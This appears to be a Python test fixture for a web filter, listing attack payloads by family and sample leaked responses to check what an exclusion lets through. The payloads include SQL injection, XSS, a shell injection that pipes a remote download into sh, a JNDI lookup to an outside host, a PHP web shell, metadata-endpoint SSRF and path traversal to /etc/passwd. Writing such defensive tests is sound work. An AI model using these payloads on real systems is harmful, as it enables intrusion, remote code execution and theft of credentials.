"""Attacks and leaks of every family, to see what an exclusion opens; each is plainly one."""

ATTACKS: tuple[tuple[str, bytes], ...] = (
    ("sql", b"1' OR '1'='1' -- -"),
    ("sql", b"1 UNION SELECT username, password FROM users"),
    ("markup", b"<script>alert(document.cookie)</script>"),
    ("markup", b'"><img src=x onerror=alert(1)>'),
    ("shell", b"; cat /etc/passwd"),
    ("shell", b"$(curl http://203.0.113.9/x | sh)"),
    ("path", b"../../../../etc/passwd"),
    ("template", b"{{7*7}}${7*7}<%= 7*7 %>"),
    ("lookup", b"${jndi:ldap://203.0.113.9/a}"),
    ("code", b"<?php system($_GET['c']); ?>"),
    ("request", b"http://169.254.169.254/latest/meta-data/"),
    ("lines", b"x\r\nSet-Cookie: sid=1\r\n\r\n<html>"),
)
# Answers that no application means to give: family, status, type, body.
LEAKS: tuple[tuple[str, int, bytes, bytes], ...] = (
    ("key", 200, b"text/plain", b"-----BEGIN PRIVATE KEY-----\n" + b"A1b2" * 16),
    (
        "accounts",
        200,
        b"text/plain",
        b"root:x:0:0:root:/root:/bin/sh\nbin:x:2:2:b:/bin:/bin/sh\n",
    ),
    ("listing", 200, b"text/html", b"<title>Index of /a</title><h1>Index of /a</h1>"),
    ("source", 200, b"text/plain", b"<?php\n$a = 1;\n"),
    ("trace", 500, b"text/plain", b'Traceback (most recent call last):\n  File "/a.py", line 1\n'),
    ("trace", 500, b"text/plain", b"E\n\tat com.acme.Shop.buy(Shop.java:12)\n"),
    ("error", 200, b"text/html", b"<b>Warning</b>:  f() in <b>/var/www/a.php</b> on line <b>1</b>"),
    ("database", 500, b"text/plain", b"SQLSTATE[42S02]: Base table or view not found"),
)
OTHER_NAMES = (b"q", b"comment", b"id")
OTHER_PATHS = (b"/", b"/search", b"/api/items", b"/login")
